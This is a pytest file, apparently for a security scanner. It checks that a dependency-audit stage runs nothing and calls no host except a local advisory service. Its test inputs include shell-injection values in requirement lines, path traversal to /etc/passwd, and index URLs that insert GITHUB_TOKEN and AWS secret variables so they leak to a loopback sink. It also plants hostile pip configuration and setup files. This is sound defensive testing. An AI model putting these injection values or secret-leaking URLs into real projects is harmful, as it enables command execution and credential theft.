"""The dependency stage resolves, builds and installs nothing, calls nobody but the advisory service, and loses no package."""

from __future__ import annotations

import codecs
import json
import socket
import threading

import pytest
from hostile.cases import Batch, Case, check_case
from hostile.plants import FORMS, GIT, grow
from hostile.samples import REQUIREMENTS
from hostile.test_execution import BACKEND, SETUP, touch
from hostile.world import TOKENS, scan
from osv_server import RECORDS, OsvServer, load

pytestmark = pytest.mark.real

SINK = "@SINK@"
ADVISORY = "CVE-2018-18074"
EVIL = b"import os\nopen('@CANARY@/evil', 'w').close()\n"
KNOWN = Case("known", {"requirements.txt": REQUIREMENTS}, finds=((ADVISORY, "requirements.txt", 1),))
LINES = (
    b"-e .", b"-e ./evil", b"./evil", b"evil @ file:evil", b"file:///evil", b"git+file://@CANARY@/../tree#egg=x", b"git+http://127.0.0.1:@SINK@/x.git#egg=y",
    b"--index-url http://u:${GITHUB_TOKEN}@127.0.0.1:@SINK@/simple", b"--extra-index-url http://127.0.0.1:@SINK@/${AWS_SECRET_ACCESS_KEY}", b"--find-links http://127.0.0.1:@SINK@/", b"-i http://127.0.0.1:@SINK@/",
    b"--trusted-host 127.0.0.1", b"--no-binary :all:", b"--pre", b"--use-feature=x", b"--config-settings x=y", b"-r ../outside/more.txt", b"-c ../outside/more.txt", b"-r /etc/passwd", b"-r http://127.0.0.1:@SINK@/r.txt",
    b"pkg @ http://127.0.0.1:@SINK@/pkg-1.0.tar.gz", b"http://127.0.0.1:@SINK@/pkg-1.0-py3-none-any.whl", b"--hash=sha256:00", b"requests==2.19.0 --global-option=x", b"requests[security]==2.19.0 ; python_version < '2'",
    b"name==", b"===", b"\\", b"--", b"%(x)s==1", b"$(touch @CANARY@/sh)==1.0", b"`touch @CANARY@/sh`==1.0", b"a==1.0;touch @CANARY@/x", b"../../../../etc/passwd==1.0", b"a/../b==1.0", b"a" * 5000 + b"==1.0",
)  # fmt: skip
CASES = (
    KNOWN,
    Case("lines", {"all/requirements.txt": b"\n".join(LINES) + b"\nrequests==2.19.0\n"}, finds=((ADVISORY, "all/requirements.txt"),), outside={"more.txt": b"requests==2.19.0\n"}),
    *(Case(f"line-{n}", {f"line{n}/requirements.txt": line + b"\nrequests==2.19.0\n"}, finds=((ADVISORY, f"line{n}/requirements.txt"),)) for n, line in enumerate(LINES) if line != b"\\"),
    Case("local-package", {"setup.py": SETUP, "evil/setup.py": SETUP, "evil/pyproject.toml": BACKEND, "evil/backend.py": touch("backend"), "pip/__init__.py": touch("pip"), "pip/__main__.py": touch("pip"), "pip_audit.py": touch("pip_audit")}),
    Case("configuration", {"pip.conf": b"[global]\nindex-url = http://127.0.0.1:@SINK@/\n", ".pip/pip.conf": b"[global]\nindex-url = http://127.0.0.1:@SINK@/\n", "uv.toml": b"index-url = 'http://127.0.0.1:@SINK@/'\n", ".netrc": b"machine 127.0.0.1 login a password b\n", "poetry.toml": b"x = 1\n", ".npmrc": b"registry=http://127.0.0.1:@SINK@/\n", "NuGet.Config": b"<x/>"}),
    Case("utf16", {"wide/requirements.txt": codecs.BOM_UTF16_LE + REQUIREMENTS.decode().encode("utf-16-le"), "mark/requirements.txt": codecs.BOM_UTF8 + REQUIREMENTS, "mac/requirements.txt": b"x==1\rrequests==2.19.0\r"}, finds=((ADVISORY, "wide/requirements.txt"), (ADVISORY, "mark/requirements.txt"), (ADVISORY, "mac/requirements.txt"))),
    Case("continued", {"cont/requirements.txt": b"requests==2.19.0 \\\n  --hash=sha256:" + b"0" * 64 + b"\n", "cont2/requirements.txt": b"requests\\\n==2.19.0\n", "cont3/requirements.txt": b"Requests == 2.19.0  # pinned\n"}, finds=((ADVISORY, "cont/requirements.txt"), (ADVISORY, "cont2/requirements.txt"), (ADVISORY, "cont3/requirements.txt"))),
    Case("names", {"n/requirements-dev.txt": REQUIREMENTS, "n/é/requirements.txt": REQUIREMENTS, "n/a\nb/requirements.txt": REQUIREMENTS, "n/requirements/base.txt": REQUIREMENTS}, finds=((ADVISORY, "n/requirements-dev.txt"), (ADVISORY, "n/é/requirements.txt"), (ADVISORY, "n/a\nb/requirements.txt"), (ADVISORY, "n/requirements/base.txt"))),
    Case("project", {"p/pyproject.toml": BACKEND.replace(b'version = "1"', b'version = "1"\ndependencies = ["requests==2.19.0"]')}, finds=((ADVISORY, "p/pyproject.toml"),)),
    Case("poetry", {"q/poetry.lock": b'[[package]]\nname = "requests"\nversion = "2.19.0"\n[package.source]\ntype = "legacy"\nurl = "http://127.0.0.1:@SINK@/"\nreference = "x"\n'}),
)  # fmt: skip
ENVIRONMENT = {
    "PIP_INDEX_URL": "http://127.0.0.1:@SINK@/", "PIP_EXTRA_INDEX_URL": "http://127.0.0.1:@SINK@/", "PIP_CONFIG_FILE": "@TREE@/pip.conf", "PIP_FIND_LINKS": "@TREE@/evil", "PIP_REQUIRE_VIRTUALENV": "1",
    "PIP_AUDIT_DESC": "off", "PIP_AUDIT_FORMAT": "markdown", "PIP_AUDIT_OUTPUT": "@CANARY@/output", "PIP_AUDIT_VULNERABILITY_SERVICE": "pypi", "UV_INDEX_URL": "http://127.0.0.1:@SINK@/", "NETRC": "@TREE@/.netrc",
    "VIRTUAL_ENV": "@TREE@/evil", "PYTHONPATH": "", "REQUESTS_CA_BUNDLE": "", "PIPENV_PIPFILE": "x",
}  # fmt: skip
ARGUMENTS = ("--stage", "dependencies", "--cage", "off", "--no-cache")


@pytest.fixture(scope="module")
def service():
    """The advisory service on loopback."""
    server = OsvServer(load(RECORDS))
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def sink():
    """A port that nobody may call; `sink.calls` are those who did."""

    class Sink:
        def __init__(self):
            self.calls = []
            self.listener = socket.create_server(("127.0.0.1", 0))
            self.port = str(self.listener.getsockname()[1])
            threading.Thread(target=self.wait, daemon=True).start()

        def wait(self):
            while True:
                try:
                    connection, _ = self.listener.accept()
                    self.calls.append(connection.recv(1000))
                    connection.close()
                except OSError:
                    return

    made = Sink()
    yield made
    made.listener.close()


@pytest.fixture(scope="module")
def seen(request, tmp_path_factory, service, sink):
    """`seen(form)`: the one scan of all cases."""
    from hostile.plants import Ground

    class Wired(Ground):
        def fill(self, data):
            return super().fill(data).replace(SINK.encode(), sink.port.encode())

    kept = {}

    def scanned(form):
        if form not in kept:
            ground = Wired(tmp_path_factory.mktemp(f"dependencies-{form}"))
            batch = Batch("all", CASES)
            grow(
                ground,
                form,
                batch.part("tree", form),
                late={},
                inside_git={},
                outside=batch.part("outside", form),
            )
            kept[form] = scan(ground, (*ARGUMENTS, "--osv-url", service.url), env=ENVIRONMENT)
        return kept[form]

    return scanned


@pytest.mark.parametrize("form", FORMS)
def test_nothing_runs_and_nobody_is_called(form, seen, sink):
    outcome = seen(form)
    assert outcome.canaries == ()
    assert sink.calls == []
    assert outcome.touched == ()
    assert outcome.temporary == ()
    assert b"Traceback" not in outcome.outputs["stderr"]
    assert outcome.code in {1, 3}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_case(case, form, seen):
    check_case(case, seen(form))


def test_the_service_is_told_names_and_versions_only(seen, service):
    seen(GIT)
    asked = json.dumps(service.asked)
    assert "requests" in asked
    for value in (*TOKENS.values(), "requirements", "@", "/", "tree"):
        assert value not in asked


def test_what_was_not_assessed_is_counted(seen):
    listed = seen(GIT).report["components"]
    assert sum(1 for c in listed if c.get("unassessed")) >= 10
    by_url = [
        c for c in listed if c["name"] in {"evil", "x", "y", "pkg"} and not c["path"].startswith("mac/")
    ]
    assert len(by_url) >= 10
    assert all(c.get("unassessed") for c in by_url)
